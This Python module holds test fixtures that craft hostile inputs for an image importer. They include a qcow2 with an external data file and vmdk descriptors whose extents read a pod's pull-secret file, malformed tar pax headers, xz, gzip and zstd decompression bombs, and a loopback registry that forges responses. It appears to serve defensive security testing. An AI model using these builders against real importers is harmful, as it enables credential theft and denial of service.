"""Hand-made hostile disks and layers, written byte by byte as an attacker would.

Every builder here makes something a well-behaved tool refuses to write: a qcow2 whose
data lives in a file of the importing pod, vmdk descriptors whose extents are such
files, tar streams with oversized or duplicated metadata, compression bombs.
"""

from __future__ import annotations

import gzip
import http.client
import io
import json
import lzma
import ssl
import struct
import subprocess
import tarfile
import threading
import zlib
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import zstandard

SECRET = (b"TOP-SECRET-PULL-TOKEN-" * 200)[:4096]


def secret_file(directory: Path) -> Path:
    """A stand-in for the pod's mounted pull secret: 4 KiB of recognisable bytes."""
    path = directory / "dockerconfigjson"
    path.write_bytes(SECRET)
    return path


def qcow2_with_data_file(work: Path, data_file: Path) -> bytes:
    """A qcow2 whose clusters are the bytes of ``data_file`` (external, raw data file).

    qemu-img writes to the data file it is given at creation, so the image is made over
    a decoy of the same path length and the name patched in afterwards.
    """
    decoy = data_file.with_name("x" * len(data_file.name))
    decoy.write_bytes(bytes(len(SECRET)))
    image = work / "data-file.qcow2"
    options = f"data_file={decoy},data_file_raw=on,preallocation=metadata"
    subprocess.run(
        ["qemu-img", "create", "-q", "-f", "qcow2", "-o", options, str(image), "4096"],
        check=True,
    )
    raw = image.read_bytes()
    assert raw.count(str(decoy).encode()) == 1
    return raw.replace(str(decoy).encode(), str(data_file).encode())


def vmdk_descriptor(create_type: str, extents: list[tuple[str, int, str]]) -> bytes:
    """A vmdk descriptor file; each extent is ``(type, sectors, file name)``."""
    lines = [
        "# Disk DescriptorFile",
        "version=1",
        "CID=fffffffe",
        "parentCID=ffffffff",
        f'createType="{create_type}"',
        "",
        "# Extent description",
        *(
            f'RW {sectors} {kind} "{name}"' + (" 0" if kind == "FLAT" else "")
            for kind, sectors, name in extents
        ),
        "",
        'ddb.virtualHWVersion = "4"',
        "",
    ]
    return "\n".join(lines).encode()


def vmdk_sparse_capacity_zero(descriptor: bytes) -> bytes:
    """A KDMV (monolithicSparse) header of capacity 0 with ``descriptor`` embedded.

    qemu then takes the embedded descriptor as the disk's own, extents included.
    """
    sectors = (len(descriptor) + 511) // 512
    header = b"KDMV" + struct.pack("<IIQQQQIQQQ", 1, 3, 0, 128, 1, sectors, 512, 0, 0, 0)
    header += b"\0\n \r\n" + struct.pack("<H", 0)
    return header.ljust(512, b"\0") + descriptor.ljust(sectors * 512, b"\0")


def tar_entry(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, **pax: str) -> bytes:
    """One tar entry (header, data, padding) in pax format, no end-of-archive blocks."""
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = len(data)
    info.pax_headers = dict(pax)
    block = info.tobuf(tarfile.PAX_FORMAT, "utf-8", "surrogateescape")
    return block + data + bytes(-len(data) % 512)


def pax_header(records: dict[str, bytes]) -> bytes:
    """A lone pax extended header (type ``x``) holding ``records``."""
    data = b""
    for key, value in records.items():
        body = b" " + key.encode() + b"=" + value + b"\n"
        digits = len(str(len(body)))
        length = len(body) + digits
        if len(str(length)) != digits:
            length += 1
        data += str(length).encode() + body
    info = tarfile.TarInfo("././@PaxHeader")
    info.type = tarfile.XHDTYPE
    info.size = len(data)
    return info.tobuf(tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512)


END_OF_ARCHIVE = bytes(1024)


def gzip_bytes(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=9, mtime=0)


def xz_with_dictionary(data: bytes, dict_size_code: int) -> bytes:
    """``data`` xz-compressed with a small dictionary, relabelled as needing a huge one.

    The LZMA2 filter property byte (``dict_size_code``: 40 is 4 GiB - 1, 38 is 1.5 GiB)
    tells the decoder how much dictionary to allocate; the matches never reach beyond
    the real, small dictionary, so the stream still decodes. The block header CRC32 is
    recomputed.
    """
    filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20, "preset": 0}]
    out = bytearray(
        lzma.compress(data, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC32, filters=filters)
    )
    block = 12  # after the stream header
    size = (out[block] + 1) * 4
    header = out[block : block + size]
    # block flags byte, then (optional sizes), then filter flags: id 0x21, props size 1, prop
    pos = header.index(b"\x21\x01", 2)
    header[pos + 2] = dict_size_code
    header[-4:] = struct.pack("<I", zlib.crc32(bytes(header[:-4])))
    out[block : block + size] = header
    return bytes(out)


def json_bytes(document: object) -> bytes:
    return json.dumps(document).encode()


def zeros_stream_gzip(size: int, prefix: bytes = b"", suffix: bytes = b"") -> bytes:
    """``prefix`` + ``size`` bytes of ``a`` + ``suffix``, gzip-compressed in 1 MiB steps."""
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", compresslevel=9, mtime=0) as gz:
        gz.write(prefix)
        chunk = b"a" * (1 << 20)
        left = size
        while left:
            gz.write(chunk[: min(left, len(chunk))])
            left -= min(left, len(chunk))
        gz.write(suffix)
    return buf.getvalue()


class _FrontHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: HostileRegistry

    def _answer(self) -> None:
        front = self.server
        front.seen.append((self.command, self.path, dict(self.headers.items())))
        path = self.path.split("?", 1)[0]
        answer = front.answers.get(path)
        if callable(answer):
            answer = answer(self)
        if answer is not None:
            status, headers, body = answer
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(body)
            return
        length = int(self.headers.get("Content-Length") or 0)
        body_in = self.rfile.read(length) if length else None
        headers_in = {k: v for k, v in self.headers.items() if k.lower() not in _HOP_BY_HOP}
        upstream = http.client.HTTPConnection(front.upstream, timeout=30)
        upstream.request(self.command, self.path, body=body_in, headers=headers_in)
        response = upstream.getresponse()
        data = response.read()
        self.send_response(response.status)
        for name, value in response.getheaders():
            if name.lower() not in _HOP_BY_HOP | {"content-length"}:
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)
        upstream.close()

    do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = _answer

    def log_message(self, *args: object) -> None:
        pass


_HOP_BY_HOP = {"connection", "keep-alive", "proxy-connection", "transfer-encoding", "upgrade"}
Answer = tuple[int, dict[str, str], bytes]


class HostileRegistry(ThreadingHTTPServer):
    """A registry that lies: plain HTTP on loopback in front of a real docker-registry.

    Requests are forwarded to ``upstream`` (``host:port`` of a plain-HTTP registry)
    except for the paths in ``answers``, which get a canned ``(status, headers, body)``
    (or whatever a callable taking the request handler returns). ``seen`` records
    every request as ``(method, path, headers)``. ``tls`` (certificate and key files)
    makes it an HTTPS registry. Use as a context manager.
    """

    daemon_threads = True

    def __init__(self, upstream: str, tls: tuple[Path, Path] | None = None) -> None:
        super().__init__(("127.0.0.1", 0), _FrontHandler)
        if tls is not None:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(*tls)
            self.socket = context.wrap_socket(self.socket, server_side=True)
        self.upstream = upstream
        self.answers: dict[str, Answer | Callable[[BaseHTTPRequestHandler], Answer | None]] = {}
        self.seen: list[tuple[str, str, dict[str, str]]] = []
        self._thread = threading.Thread(target=self.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        """``host:port``, the registry part of image references."""
        return f"127.0.0.1:{self.server_address[1]}"

    def __enter__(self) -> HostileRegistry:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.shutdown()
        self.server_close()


def zstd_repeated(unit: bytes, count: int, level: int = 3) -> bytes:
    """``unit`` repeated ``count`` times, zstd-compressed in one frame, 1 MiB at a time."""
    compressor = zstandard.ZstdCompressor(level=level, write_content_size=False).compressobj()
    per_step = max(1, (1 << 20) // len(unit))
    parts = []
    left = count
    while left:
        n = min(per_step, left)
        parts.append(compressor.compress(unit * n))
        left -= n
    parts.append(compressor.flush())
    return b"".join(parts)
